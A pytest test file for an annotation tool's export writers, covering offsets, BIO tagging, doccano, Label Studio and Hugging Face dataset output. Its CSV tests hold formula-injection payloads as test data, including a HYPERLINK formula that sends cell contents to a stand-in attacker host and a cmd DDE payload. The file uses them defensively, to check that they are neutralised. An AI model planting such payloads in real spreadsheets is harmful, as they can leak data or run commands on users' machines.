"""The export writers: content, offsets (code points vs UTF-16), CSV injection, BIO, HF folders, streaming."""

from __future__ import annotations

import ast
import csv
import inspect
import io
import itertools
import json
import xml.etree.ElementTree as ElementTree  # noqa: S405 - parses only our own output
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from annotator.corpus.segment import word_spans
from annotator.exports import formats
from annotator.exports.formats import (
    CSV_COLUMNS,
    bio_tags,
    conll_bio,
    csv_claims,
    doccano_jsonl,
    hf_dataset_files,
    jsonl,
    label_studio_config,
    label_studio_json,
    spans_from_bio,
    split_of,
    spreadsheet_safe,
    write_hf_dataset,
)
from annotator.exports.formats.conll import BioStats
from annotator.exports.formats.offsets import OffsetError, from_utf16, to_utf16, utf16_length

EXPORTS = Path(__file__).resolve().parents[3] / "annotator" / "exports"
SCHEMA_FILE = Path(__file__).resolve().parents[3] / "fixtures" / "default_schema.json"
# Every module of the two pure subpackages: the format writers and the import readers/planners.
PURE_MODULES = sorted(
    path.relative_to(EXPORTS).as_posix()
    for package in ("formats", "readers")
    for path in (EXPORTS / package).glob("*.py")
)
BLINKEN = {"id": 1, "name": "Antony Blinken", "kind": "person", "affiliation": "us_gov"}


def claim(text, quote, *, id, annotator="alice", nth=0, perspective="us_western", stance="against", **extra):
    start = -1
    for _ in range(nth + 1):
        start = text.index(quote, start + 1)
    return {
        "id": id,
        "annotator": annotator,
        "start": start,
        "end": start + len(quote),
        "text": quote,
        "speaker": extra.pop("speaker", BLINKEN),
        "attribution": extra.pop("attribution", "direct"),
        "perspective": perspective,
        "stance": stance,
        "target": extra.pop("target", "Russia–North Korea rapprochement"),
        "confidence": extra.pop("confidence", 4),
        "note": extra.pop("note", ""),
    }


def passage(passage_id, text, claims=(), gold=None, *, document_id=1, position=0, title="Putin in Pyongyang"):
    return {
        "passage_id": passage_id,
        "document_id": document_id,
        "document_title": title,
        "document": {
            "source": "Reuters",
            "url": "https://example.org/a",
            "published": "2024-06-19",
            "language": "en",
            "meta": {},
        },
        "position": position,
        "start": 100 * position,
        "end": 100 * position + len(text),
        "text": text,
        "claims": list(claims),
        "gold": None if gold is None else list(gold),
    }


# Flags are two astral code points each; "ŏ" is written decomposed (o + COMBINING BREVE).
ASTRAL = (
    "🇷🇺🤝🇰🇵 On 𝕏, Blinken called the pact “a grave threat” 😀 while Cho\u0306son Sinbo hailed a “new era.”"
)


def sample_records():
    text = ASTRAL
    alice = [
        claim(text, "a grave threat", id=1),
        claim(text, "new era", id=2, perspective="north_korean", stance="favor", speaker=None),
    ]
    bob = [
        claim(text, "a grave threat", id=3, annotator="bob"),
        claim(text, "grave", id=4, annotator="bob"),  # nested inside alice's and bob's own claim
    ]
    gold = [{**claim(text, "a grave threat", id=10, annotator="gold"), "annotator": "gold"}]
    second = "Lavrov said talks were “very substantive” and “productive.”"
    lavrov = claim(second, "very substantive", id=5, perspective="russian", stance="favor")
    return [
        passage(11, text, alice + bob, gold),
        passage(12, second, [lavrov], None, position=1),
        passage(13, "Seoul summoned the Russian ambassador.", [], [], document_id=2),
    ]


def infinite_records():
    for n in itertools.count(1):
        text = f"Passage {n}: the summit was “historic” 🚀."
        yield passage(n, text, [claim(text, "historic", id=n)], None, document_id=n)


# --- purity and streaming -------------------------------------------------------------------------------


@pytest.mark.parametrize("module", PURE_MODULES)
def test_format_modules_import_nothing_from_django(module):
    tree = ast.parse((EXPORTS / module).read_text(encoding="utf-8"))
    imported = [alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names]
    imported += [node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)]
    assert not [name for name in imported if name.split(".")[0] in ("django", "rest_framework", "celery")]


WRITERS = {
    "jsonl": lambda records: jsonl(records),
    "csv": lambda records: csv_claims(records),
    "conll": lambda records: conll_bio(records, source="annotators"),
    "doccano": lambda records: doccano_jsonl(records),
    "label_studio": lambda records: label_studio_json(records),
    "hf": lambda records: hf_dataset_files(records, schema={}, project_name="p"),
}


@pytest.mark.parametrize("name", WRITERS)
def test_every_writer_is_a_lazy_generator_that_streams_from_an_infinite_source(name):
    chunks = WRITERS[name](infinite_records())
    assert inspect.isgenerator(chunks)
    first_two = list(itertools.islice(chunks, 2))  # would never return if the writer read everything first
    assert len(first_two) == 2 and all(first_two)


@pytest.mark.parametrize(
    "call",
    [
        lambda: conll_bio([], source="everyone"),
        lambda: doccano_jsonl([], source="annotator:"),
        lambda: doccano_jsonl([], offsets="grapheme"),
        lambda: label_studio_json([], source="gold-ish"),
        lambda: hf_dataset_files([], schema={}, project_name="p", splits=(0.5, 0.5, 0.5)),
    ],
)
def test_bad_arguments_fail_when_the_writer_is_called_not_midway_through_a_stream(call):
    with pytest.raises(ValueError):
        call()


# --- offsets --------------------------------------------------------------------------------------------


def test_utf16_offsets_count_astral_characters_twice_and_combining_marks_once():
    text = "😀a\u0306𝕏b"
    assert utf16_length(text) == 7  # 😀(2) a(1) ◌̆(1) 𝕏(2) b(1)
    assert [to_utf16(text, i) for i in range(len(text) + 1)] == [0, 2, 3, 4, 6, 7]
    assert [from_utf16(text, u) for u in (0, 2, 3, 4, 6, 7)] == [0, 1, 2, 3, 4, 5]


@pytest.mark.parametrize("offset", [1, 5, -1, 8])
def test_a_utf16_offset_inside_a_surrogate_pair_or_outside_the_text_is_refused(offset):
    with pytest.raises(OffsetError):
        from_utf16("😀a\u0306𝕏b", offset)


@settings(database=None)  # no .hypothesis/ folder in the work tree
@given(st.text(), st.data())
def test_code_point_and_utf16_offsets_convert_back_and_forth(text, data):
    offset = data.draw(st.integers(0, len(text)))
    unit = to_utf16(text, offset)
    assert from_utf16(text, unit) == offset
    assert text.encode("utf-16-le")[: 2 * unit].decode("utf-16-le") == text[:offset]


# --- jsonl ----------------------------------------------------------------------------------------------


def test_jsonl_writes_each_passage_on_one_line_with_document_metadata_claims_and_gold():
    records = sample_records()
    output = "".join(jsonl(records))
    assert "😀" in output and "𝕏" in output  # ensure_ascii=False
    lines = [json.loads(line) for line in output.split("\n") if line]
    assert [line["passage_id"] for line in lines] == [11, 12, 13]
    first = lines[0]
    assert first["document"] == records[0]["document"] and first["document_title"] == "Putin in Pyongyang"
    assert len(first["claims"]) == 4 and first["gold"][0]["annotator"] == "gold"
    assert lines[1]["gold"] is None and lines[2]["gold"] == []
    for line in lines:
        for c in line["claims"] + (line["gold"] or []):
            assert line["text"][c["start"] : c["end"]] == c["text"]


def test_jsonl_escapes_unicode_line_separators_so_a_passage_never_spans_two_lines():
    text = "He said\u2028“peace”\u2029and\x85left."
    output = "".join(jsonl([passage(1, text, [claim(text, "peace", id=1)])]))
    assert len(output.splitlines()) == 1
    assert json.loads(output)["text"] == text


def test_jsonl_of_no_records_is_empty():
    assert "".join(jsonl([])) == ""


# --- csv ------------------------------------------------------------------------------------------------


def read_csv(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_has_every_claim_exactly_once_with_offsets_into_the_passage():
    records = sample_records()
    rows = read_csv("".join(csv_claims(records)))
    expected = Counter(
        (r["passage_id"], c["id"], c["annotator"]) for r in records for c in r["claims"] + (r["gold"] or [])
    )
    written = Counter((int(row["passage_id"]), int(row["claim_id"]), row["annotator"]) for row in rows)
    assert written == expected
    texts = {r["passage_id"]: r["text"] for r in records}
    for row in rows:
        assert texts[int(row["passage_id"])][int(row["start"]) : int(row["end"])] == row["text"]
    no_speaker = next(row for row in rows if row["claim_id"] == "2")
    assert no_speaker["speaker"] == no_speaker["speaker_kind"] == ""


def test_csv_can_leave_gold_out():
    rows = read_csv("".join(csv_claims(sample_records(), include_gold=False)))
    assert {row["annotator"] for row in rows} == {"alice", "bob"}


def test_csv_of_no_records_is_the_header_alone():
    assert "".join(csv_claims([])) == ",".join(CSV_COLUMNS) + "\r\n"


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\tcalc",
        "\rcmd",
        "＝1+1",
    ],
)
def test_spreadsheet_safe_prefixes_text_that_could_run_as_a_formula(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Blinken", "a-b", "1+1", " =1", "", 7, -2, 3.5, None])
def test_spreadsheet_safe_leaves_plain_text_and_numbers_alone(value):
    assert spreadsheet_safe(value) == value


def test_csv_cells_that_look_like_formulas_arrive_neutralised_and_numbers_unchanged():
    text = '=HYPERLINK("http://evil.example","x") and @SUM(1) then -2+3'
    formula = '=HYPERLINK("http://evil.example","x")'
    c = claim(text, formula, id=1, annotator="+mallory", target="-2+3", note="@SUM(1)")
    c["speaker"] = {"id": 2, "name": "\tTab", "kind": "person", "affiliation": "\rother"}
    record = passage(1, text, [c], title="=cmd|' /C calc'!A0")
    (row,) = read_csv("".join(csv_claims([record])))
    for column, original in [
        ("text", c["text"]), ("annotator", "+mallory"), ("target", "-2+3"), ("note", "@SUM(1)"),
        ("speaker", "\tTab"), ("speaker_affiliation", "\rother"), ("document_title", "=cmd|' /C calc'!A0"),
    ]:  # fmt: skip
        assert row[column] == "'" + original, column
    assert (row["start"], row["end"], row["confidence"]) == ("0", str(len(c["text"])), "4")


# --- BIO ------------------------------------------------------------------------------------------------


def parse_conll(text):
    """[(comments, [(token, tag)])] per passage."""
    passages = []
    for block in text.split("\n\n"):
        if not block.strip():
            continue
        lines = block.split("\n")
        comments = dict(line[2:].split(" = ") for line in lines if line.startswith("# "))
        rows = [tuple(line.split("\t")) for line in lines if not line.startswith("# ")]
        passages.append((comments, rows))
    return passages


def test_conll_bio_tags_reassemble_into_the_claim_spans():
    text = "Putin 🇷🇺 said 𝕏 posts “prove nothing” and Kim called it “a new era of alliance.”"
    claims = [claim(text, "prove nothing", id=1), claim(text, "a new era of alliance", id=2)]
    output = "".join(conll_bio([passage(5, text, [], claims, document_id=9)], source="gold"))
    ((comments, rows),) = parse_conll(output)
    assert comments == {"passage_id": "5", "document_id": "9"}
    tokens = word_spans(text)
    assert [token for token, _ in rows] == [text[s:e] for s, e in tokens]
    spans = spans_from_bio(tokens, [tag for _, tag in rows])
    assert spans == [(c["start"], c["end"], "CLAIM") for c in claims]
    assert output.endswith("\n\n")


def test_conll_bio_label_field_names_the_tags():
    text = "Kim hailed “a new era.”"
    output = "".join(
        conll_bio(
            [passage(1, text, [], [claim(text, "new era", id=1, perspective="north_korean")])],
            label_field="perspective",
        )
    )
    ((_, rows),) = parse_conll(output)
    assert [tag for _, tag in rows] == ["O", "O", "O", "O", "B-north_korean", "I-north_korean", "O", "O"]


def test_flat_bio_keeps_the_outermost_earliest_span_and_counts_the_dropped_ones():
    text = "one two three four five six"
    spans = [
        (4, 18, "A"),  # two three four
        (8, 13, "B"),  # three: nested, dropped
        (4, 18, "A"),  # the same span from a second annotator: written once, not dropped
        (14, 23, "C"),  # four five: overlaps A, which starts earlier: dropped
        (24, 27, "D"),  # six
    ]
    tagging = bio_tags(text, spans)
    assert tagging.tags == ["O", "B-A", "I-A", "I-A", "O", "B-D"]
    assert sorted(tagging.dropped) == [(8, 13, "B"), (14, 23, "C")]
    assert spans_from_bio(tagging.tokens, tagging.tags) == [(4, 18, "A"), (24, 27, "D")]


def test_bio_snaps_a_span_to_whole_tokens_and_drops_a_span_with_no_token():
    tagging = bio_tags("the summit ended", [(5, 8, "X"), (3, 4, "Y")])
    assert tagging.tags == ["O", "B-X", "O"]  # "umm" takes all of "summit"; the space covers no token
    assert tagging.dropped == [(3, 4, "Y")]


def test_conll_gold_skips_unadjudicated_passages_and_reports_what_it_dropped():
    stats = BioStats()
    output = "".join(conll_bio(sample_records(), source="gold", stats=stats))
    assert [c["passage_id"] for c, _ in parse_conll(output)] == ["11", "13"]
    assert (stats.passages, stats.skipped_passages, stats.spans, stats.dropped) == (2, 1, 1, 0)
    stats = BioStats()
    output = "".join(conll_bio(sample_records(), source="annotators", stats=stats))
    comments = [c for c, _ in parse_conll(output)]
    assert comments[0]["dropped_claims"] == "1"  # bob's nested "grave"
    assert stats.dropped_by_passage == {11: 1} and stats.dropped == 1


def test_spans_from_bio_starts_a_span_at_a_stray_inside_tag():
    tokens = [(0, 1), (2, 3), (4, 5), (6, 7)]
    assert spans_from_bio(tokens, ["I-A", "I-A", "B-A", "I-B"]) == [(0, 3, "A"), (4, 5, "A"), (6, 7, "B")]


@settings(database=None)
@given(st.data())
def test_bio_tags_and_spans_from_bio_are_inverse_for_disjoint_token_spans(data):
    vocabulary = ["Kim", "𝕏", "😀", "“", "Chosŏn", "e\u0301", "2024", "."]
    words = data.draw(st.lists(st.sampled_from(vocabulary), max_size=25))
    text = " ".join(words)
    tokens = word_spans(text)
    cuts = sorted(data.draw(st.sets(st.integers(0, len(tokens)), max_size=8)))
    spans = []
    for a, b in itertools.pairwise(cuts):
        if data.draw(st.booleans()):
            label = data.draw(st.sampled_from(["CLAIM", "us_western"]))
            spans.append((tokens[a][0], tokens[b - 1][1], label))
    tagging = bio_tags(text, spans)
    assert tagging.dropped == []
    assert spans_from_bio(tagging.tokens, tagging.tags) == spans


# --- Hugging Face ---------------------------------------------------------------------------------------


def many_records(documents=40):
    records = []
    for doc in range(1, documents + 1):
        for position in range(2):
            text = f"Document {doc} 🇰🇵, passage {position}: officials called it “a turning point.”"
            claims = [claim(text, "a turning point", id=doc * 10 + position)] if (doc + position) % 3 else []
            gold = claims if doc % 4 == 0 else None
            record = passage(doc * 10 + position, text, claims, gold, document_id=doc, position=position)
            records.append(record)
    return records


def front_matter(card):
    yaml = pytest.importorskip("yaml")
    assert card.startswith("---\n")
    return yaml.safe_load(card.split("---\n")[1])


def test_hf_files_split_by_document_so_no_document_leaks_across_splits(tmp_path):
    records = many_records()
    counts = write_hf_dataset(tmp_path / "ds", records, schema={}, project_name="Summits", split_seed=3)
    seen = {}
    for split in ("train", "validation", "test"):
        path = tmp_path / "ds" / "data" / f"{split}.jsonl"
        lines = path.read_text(encoding="utf-8").splitlines() if path.exists() else []
        rows = [json.loads(line) for line in lines]
        assert counts[split]["passages"] == len(rows)
        assert counts[split]["documents"] == len({row["document_id"] for row in rows})
        for row in rows:
            assert seen.setdefault(row["document_id"], split) == split
            assert split_of(row["document_id"], seed=3) == split
            assert [[c["start"], c["end"]] for c in row["claims"]] == row["spans"]
            for c in row["claims"]:
                assert row["text"][c["start"] : c["end"]] == c["text"]
    assert len(seen) == 40 and sum(c["passages"] for c in counts.values()) == 80
    assert {split for split in seen.values()} == {"train", "validation", "test"}


def test_hf_split_is_stable_for_a_seed_and_changes_with_it():
    assignments = [split_of(doc, seed=0) for doc in range(500)]
    assert assignments == [split_of(doc, seed=0) for doc in range(500)]
    assert assignments != [split_of(doc, seed=1) for doc in range(500)]
    shares = Counter(assignments)
    assert 0.7 < shares["train"] / 500 < 0.9 and shares["validation"] and shares["test"]
    assert {split_of(doc, splits=(1, 0, 0)) for doc in range(50)} == {"train"}


def test_hf_rows_take_gold_claims_where_adjudicated_and_all_annotators_elsewhere():
    chunks = list(hf_dataset_files(sample_records(), schema={}, project_name="p", splits=(1, 0, 0)))
    rows = [json.loads(chunk) for path, chunk in chunks if path != "README.md"]
    rows = {row["passage_id"]: row for row in rows}
    assert rows[11]["claims_source"] == "gold" and [c["id"] for c in rows[11]["claims"]] == [10]
    assert rows[12]["claims_source"] == "annotators" and rows[12]["claims"][0]["annotator"] == "alice"
    assert rows[13]["claims"] == [] and rows[13]["spans"] == []
    assert chunks[-1][0] == "README.md"


def test_hf_card_lists_the_splits_schema_counts_and_agreement():
    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    agreement = {"span_alpha": 0.7134, "perspective": {"fleiss_kappa": 0.61234}, "annotators": 3}
    name = "Summits 😀: “US–China” | framing"
    files = hf_dataset_files(
        many_records(), schema=schema, agreement=agreement, project_name=name, split_seed=3
    )
    card = "".join(chunk for path, chunk in files if path == "README.md")
    meta = front_matter(card)
    assert meta["pretty_name"] == name
    files = {f["split"]: f["path"] for f in meta["configs"][0]["data_files"]}
    assert files == {split: f"data/{split}.jsonl" for split in ("train", "validation", "test")}
    features = {f["name"] for f in meta["dataset_info"]["features"]}
    assert {"text", "claims", "spans", "document_id"} <= features
    assert "`us_western` — US / Western" in card and "`favor`" in card
    assert "| span_alpha | 0.713 |" in card and "| perspective › fleiss_kappa | 0.612 |" in card
    assert "| train |" in card


def test_hf_card_without_agreement_says_so_and_leaves_out_empty_splits():
    files = hf_dataset_files(sample_records(), schema={}, project_name="p", splits=(1, 0, 0))
    (card,) = [chunk for path, chunk in files if path == "README.md"]
    meta = front_matter(card)
    assert [f["split"] for f in meta["configs"][0]["data_files"]] == ["train"]
    assert "Agreement was not computed" in card


def test_write_hf_dataset_refuses_a_folder_that_is_not_empty(tmp_path):
    (tmp_path / "old.jsonl").write_text("{}\n")
    with pytest.raises(FileExistsError):
        write_hf_dataset(tmp_path, [], schema={}, project_name="p")


def load_dataset(*args, cache_dir, **kwargs):
    """``datasets.load_dataset`` (local files only, cache in the test's folder); skips if not installed."""
    datasets = pytest.importorskip("datasets")
    return datasets.load_dataset(*args, cache_dir=str(cache_dir), **kwargs)


def test_hf_folder_loads_with_the_datasets_json_builder(tmp_path):
    folder = tmp_path / "ds"
    counts = write_hf_dataset(folder, many_records(), schema={}, project_name="Summits", split_seed=3)
    files = {split: str(folder / "data" / f"{split}.jsonl") for split in counts if counts[split]["passages"]}
    dataset = load_dataset("json", data_files=files, cache_dir=tmp_path / "cache")
    for split, count in counts.items():
        assert dataset[split].num_rows == count["passages"]
    row = next(r for r in dataset["train"] if r["claims"])
    assert row["text"][row["claims"][0]["start"] : row["claims"][0]["end"]] == row["claims"][0]["text"]


def test_hf_folder_loads_by_path_with_the_card_schema_even_when_early_rows_have_no_claims(tmp_path):
    records = [passage(n, f"Filler passage {n}.", [], None, document_id=1) for n in range(1, 50)]
    text = "Late passage 😀 says “a grave threat.”"
    late = claim(text, "a grave threat", id=1, speaker=None, confidence=None)
    records.append(passage(99, text, [late], None, document_id=1))
    write_hf_dataset(tmp_path / "ds", records, schema={}, project_name="p", splits=(1, 0, 0))
    dataset = load_dataset(str(tmp_path / "ds"), cache_dir=tmp_path / "cache")
    assert list(dataset) == ["train"] and dataset["train"].num_rows == 50
    late = dataset["train"][-1]
    assert late["claims"][0]["speaker"] is None and late["spans"] == [[21, 35]]
    assert late["text"][21:35] == "a grave threat"


# --- doccano and Label Studio writers -------------------------------------------------------------------


def _entities(line):
    return [(e["start_offset"], e["end_offset"], e["label"]) for e in line["entities"]]


def test_doccano_offsets_are_utf16_units_by_default_and_code_points_on_request():
    records = sample_records()
    (line, *_) = [json.loads(x) for x in "".join(doccano_jsonl(records)).splitlines()]
    text = line["text"]
    units = text.encode("utf-16-le")
    for start, end, _label in _entities(line):
        assert units[2 * start : 2 * end].decode("utf-16-le") in {"a grave threat", "grave", "new era"}
    assert _entities(line)[0][0] == ASTRAL.index("a grave threat") + 6  # six astral characters come before it
    (raw, *_) = [json.loads(x) for x in "".join(doccano_jsonl(records, offsets="codepoint")).splitlines()]
    assert {text[s:e] for s, e, _ in _entities(raw)} == {"a grave threat", "grave", "new era"}
    assert [a["annotator"] for a in raw["claim_attributes"]].count("gold") == 1


def test_doccano_gold_source_writes_only_adjudicated_passages_with_gold_spans():
    lines = [json.loads(x) for x in "".join(doccano_jsonl(sample_records(), source="gold")).splitlines()]
    assert [line["id"] for line in lines] == [11, 13]
    start = ASTRAL.index("a grave threat") + 6
    assert _entities(lines[0]) == [(start, start + len("a grave threat"), "CLAIM")]
    assert lines[0]["claim_attributes"][0]["perspective"] == "us_western"
    assert lines[1]["entities"] == [] and lines[1]["relations"] == []


def test_doccano_label_of_chooses_the_claim_span_label():
    lines = "".join(doccano_jsonl(sample_records(), label_of=formats.perspective_stance_label)).splitlines()
    assert _entities(json.loads(lines[1]))[0][2] == "russian/favor"


def test_label_studio_offsets_are_code_points_like_label_studios_own_emoji_test():
    # web/libs/editor/tests/integration/e2e/ner/emoji.cy.ts: "test" is at 21-25 in this text.
    text = "🐱 Warning: This is a test text"
    output = "".join(label_studio_json([passage(1, text, [claim(text, "test", id=1)])]))
    (task,) = json.loads(output)
    value = task["annotations"][0]["result"][0]["value"]
    assert (value["start"], value["end"], value["text"]) == (21, 25, "test")


def test_label_studio_export_has_one_annotation_per_annotator_and_gold_as_ground_truth():
    tasks = json.loads("".join(label_studio_json(sample_records())))
    assert [t["id"] for t in tasks] == [11, 12, 13]
    first = tasks[0]
    assert first["data"]["text"] == ASTRAL
    people = [(a["meta"]["annotator"], a["ground_truth"]) for a in first["annotations"]]
    assert people == [("alice", False), ("bob", False), ("gold", True)]
    assert all("completed_by" not in a for a in first["annotations"]), "no e-mail: Label Studio's importer"
    for annotation in first["annotations"]:
        for result in annotation["result"]:
            value = result["value"]
            assert result["to_name"] == "text"
            if result["type"] == "labels":
                assert ASTRAL[value["start"] : value["end"]] == value["text"]
    stances = [r["value"]["choices"] for r in first["annotations"][0]["result"] if r["from_name"] == "stance"]
    assert stances == [["against"], ["favor"]]
    (empty_gold,) = tasks[2]["annotations"]
    assert empty_gold["meta"] == {"annotator": "gold"} and empty_gold["result"] == [], "adjudicated: none"


def test_label_studio_export_of_nothing_is_an_empty_json_array():
    assert "".join(label_studio_json([])) == "[]"
    nobody = json.loads("".join(label_studio_json(sample_records(), source="annotator:nobody")))
    everyone = json.loads("".join(label_studio_json(sample_records(), source="annotators")))
    assert nobody == [{**task, "annotations": []} for task in everyone]


def test_label_studio_config_names_the_controls_the_export_uses():
    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    config = label_studio_config(schema)
    root = ElementTree.fromstring(config)  # noqa: S314 - our own output
    names = {element.get("name") for element in root.iter() if element.get("name")}
    assert names == {
        "label", "text", "perspective", "stance", "attribution", "target", "speaker", "note", "confidence"
    }  # fmt: skip
    assert [element.get("value") for element in root.iter("Label")] == ["CLAIM", "SPEAKER"]
    perspectives = root.find(".//Choices[@name='perspective']")
    assert [c.get("value") for c in perspectives] == [p["value"] for p in schema["perspectives"]]
